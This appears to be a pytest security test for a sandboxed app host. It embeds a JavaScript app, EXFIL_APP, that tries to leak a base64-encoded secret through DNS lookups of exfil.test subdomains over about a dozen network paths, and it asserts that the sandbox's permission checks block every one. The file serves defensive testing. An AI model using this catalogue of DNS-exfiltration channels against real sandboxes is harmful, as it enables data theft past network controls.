"""DNS from a sandbox with an allowlist: no name outside the allowlist reaches a resolver.

With a non-empty allowlist glibc inside the sandbox asks the nameserver of /etc/resolv.conf
directly (those packets are not Deno connections). This checks, against a fake DNS server in a
private namespace that logs every query (tests/sandbox/netlab.py), that Deno checks the net
permission on a host name *before* resolving it on every path an app has (fetch, Deno.connect,
connectTls, WebSocket, node:dns, node:net, node:http, an HTTP proxy, dynamic imports), and that
Deno.resolveDns needs net permission on the nameserver itself.
"""

from __future__ import annotations

import json

import pytest

from tests.sandbox.netlab import B_V4, free_port, start_in_lab

pytestmark = pytest.mark.sandbox

EXFIL_APP = """
import { createApp } from "@dropserver/app";
import dns from "node:dns";
import net from "node:net";
import http from "node:http";
const attempt = async (name, f) => {
  try { return { name, ok: true, value: String(await f()) }; }
  catch (e) { return { name, ok: false, error: String(e) }; }
};
const cb = (f) => new Promise((ok, fail) => f((err, value) => err ? fail(err) : ok(value)));
const ev = (make) => new Promise((ok, fail) => {
  const it = make();
  it.on("error", fail);
  it.on("connect", () => { it.destroy(); ok("connected"); });
  it.on("response", (res) => { res.resume(); ok(res.statusCode); });
  setTimeout(() => { it.destroy(); fail(new Error("timeout")); }, 4000);
});
const secret = (n) => `s${n}-c2VjcmV0.exfil.test`;
createApp({ routes: [{ method: "GET", path: "/", auth: "public", handler: async () =>
  Response.json([
    await attempt("allowed fetch", async () => (await fetch("http://dual.test:PORT/")).text()),
    await attempt("fetch", () => fetch(`http://${secret(1)}/`)),
    await attempt("connect", () => Deno.connect({ hostname: secret(2), port: 80 })),
    await attempt("connectTls", () => Deno.connectTls({ hostname: secret(3), port: 443 })),
    await attempt("websocket", () => new Promise((ok, fail) => {
      const ws = new WebSocket(`ws://${secret(4)}/`);
      ws.onopen = ok;
      ws.onerror = () => fail(new Error("ws error"));
    })),
    await attempt("resolveDns", () => Deno.resolveDns(secret(5), "A")),
    await attempt("resolveDns nameServer", () =>
      Deno.resolveDns(secret(6), "A", { nameServer: { ipAddr: "NS", port: 53 } })),
    await attempt("node dns.lookup", () => cb((done) => dns.lookup(secret(7), done))),
    await attempt("node dns.resolve4", () => dns.promises.resolve4(secret(8))),
    await attempt("node net.connect", () => ev(() => net.connect({ host: secret(9), port: 80 }))),
    await attempt("node http.get", () => ev(() => http.get(`http://${secret(10)}/`))),
    await attempt("proxy", () => fetch("http://dual.test:PORT/", {
      client: Deno.createHttpClient({ proxy: { url: `http://${secret(11)}:3128` } }),
    })),
    await attempt("import", () => import(`http://${secret(12)}/m.js`)),
    await attempt("resolveDns allowed name", () => Deno.resolveDns("dual.test", "A")),
  ]) }] });
"""


def test_names_outside_the_allowlist_never_reach_the_resolver(
    start_supervisor, net_lab, make_app, http_request
):
    port = free_port()
    server = net_lab.listen(B_V4, port)
    sup = start_in_lab(start_supervisor, net_lab)
    app = EXFIL_APP.replace("PORT", str(port)).replace("NS", B_V4)
    spec = make_app({"app.ts": app}).spec(allow_net=[f"dual.test:{port}"])
    status, _, body = http_request(sup.reachable(sup.client.ensure(spec)), timeout=60)
    assert status == 200
    results = {r["name"]: r for r in json.loads(body)}
    # The resolver is reachable and used: the allowlisted name resolved and was fetched.
    assert results.pop("allowed fetch")["value"] == "LEAKED" and server.accepted
    assert "dual.test" in net_lab.dns.names()
    assert not [r for r in results.values() if r["ok"]], results
    # From the resolver: not one query for a name the owner did not allow.
    assert net_lab.dns.names() <= {"dual.test"}, net_lab.dns.queries
    assert not [n for n in net_lab.dns.names() if "exfil" in n or "c2vjcmv0" in n]
    # Refused by permission checks on the name, before any lookup (not by a failed lookup).
    assert "EPERM" in results["node dns.lookup"]["error"]
    assert "Requires net access" in results["proxy"]["error"]
    # Deno.resolveDns needs net permission on the nameserver (here: not allowlisted).
    assert "Requires net access" in results["resolveDns"]["error"]
    assert "Requires net access" in results["resolveDns allowed name"]["error"]
